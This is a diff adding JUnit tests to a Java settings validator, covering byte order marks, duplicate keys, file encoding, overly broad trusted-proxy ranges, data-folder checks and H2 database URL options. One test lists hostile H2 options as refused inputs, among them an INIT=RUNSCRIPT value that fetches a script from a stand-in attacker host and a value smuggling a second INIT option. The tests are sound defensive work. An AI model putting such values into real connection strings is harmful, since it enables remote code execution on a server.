@@ -6,6 +6,7 @@ import static org.assertj.core.api.Assertions.catchThrowableOfType;
 import java.io.IOException;
 import java.net.InetAddress;
 import java.net.URI;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
@@ -13,6 +14,8 @@ import java.util.Map;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class SettingsTest {
     private static final String KEY = "MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY=";
@@ -25,6 +28,90 @@ class SettingsTest {
     @BeforeEach
     void createDataFolder() throws IOException {
         dataFolder = Files.createDirectory(folder.resolve("data"));
+    }
+
+    @Test
+    void aByteOrderMarkIsNoPartOfAName() throws IOException {
+        write(folder, "\uFEFFSEAT_HTTP_PORT=2");
+        assertThat(load(Map.of()).http().port()).isEqualTo(2);
+    }
+
+    @Test
+    void aSettingGivenTwiceInOneFileIsAnError() throws IOException {
+        write(folder, "SEAT_HTTP_PORT=1\nSEAT_CONTACT=a\nSEAT_HTTP_PORT=2");
+        assertThat(problems(Map.of()))
+                .containsExactly("SEAT_HTTP_PORT is given twice in " + folder.resolve("seat.properties")
+                        + "; allowed: once");
+    }
+
+    @Test
+    void aFileInAnotherEncodingIsNamed() throws IOException {
+        Files.write(folder.resolve("seat.properties"), "SEAT_CONTACT=J\u00f6rg".getBytes(StandardCharsets.ISO_8859_1));
+        assertThat(problems(Map.of()))
+                .containsExactly(folder.resolve("seat.properties") + " is no UTF-8 text; save it as UTF-8");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "0.0.0.0/0",
+                "::/0",
+                "10.0.0.0/8, 0.0.0.0/1",
+                "0.0.0.0/2,64.0.0.0/2",
+                "0.0.0.0/1, 128.0.0.0/1",
+                "::/1",
+                "8000::/2, c000::/2",
+                "0.0.0.0/3, 32.0.0.0/3, 96.0.0.0/3, 224.0.0.0/3, 127.0.0.1"
+            })
+    void proxiesThatAreEverybodyAreRefused(String proxies) {
+        assertThat(problems(Map.of("SEAT_TRUSTED_PROXIES", proxies)))
+                .singleElement()
+                .asString()
+                .contains("SEAT_TRUSTED_PROXIES")
+                .contains("anybody could claim to be anybody: " + proxies);
+    }
+
+    @Test
+    void proxiesOfPrivateNetworksAreTrusted() {
+        assertThat(load(Map.of("SEAT_TRUSTED_PROXIES", "10.0.0.0/8,172.16.0.0/12,192.168.0.0/16,fc00::/7,10.1.0.0/16"))
+                        .http()
+                        .trustedProxies())
+                .hasSize(5);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "INIT=RUNSCRIPT FROM 'http://evil.example/x'",
+                "init=SELECT 1",
+                "TRACE_LEVEL_FILE=4",
+                "AUTHREALM=x",
+                "DATABASE_EVENT_LISTENER='x'",
+                "FILE_LOCK=NO",
+                "CACHE_SIZE=1;INIT=x",
+                "garbage"
+            })
+    void anOptionOfH2ThatRunsOrOpensSomethingIsRefused(String options) {
+        assertThat(problems(Map.of("SEAT_DATABASE_URL", "jdbc:h2:mem:x;" + options)))
+                .singleElement()
+                .asString()
+                .contains("SEAT_DATABASE_URL")
+                .contains("of H2's options there may be")
+                .contains("CACHE_SIZE");
+    }
+
+    @Test
+    void aDataFolderThatIsNoneIsSaidToBeNone() throws IOException {
+        Path file = Files.createFile(folder.resolve("file"));
+        Path dangling = Files.createSymbolicLink(folder.resolve("link"), folder.resolve("nowhere"));
+        assertThat(problems(Map.of("SEAT_DATA_DIR", "file")))
+                .singleElement()
+                .asString()
+                .startsWith("SEAT_DATA_DIR names " + file + ", which is a file, not a folder; allowed: ");
+        assertThat(problems(Map.of("SEAT_DATA_DIR", "link")))
+                .singleElement()
+                .asString()
+                .startsWith("SEAT_DATA_DIR names " + dangling + ", which is a link to something that does not exist");
     }
 
     @Test
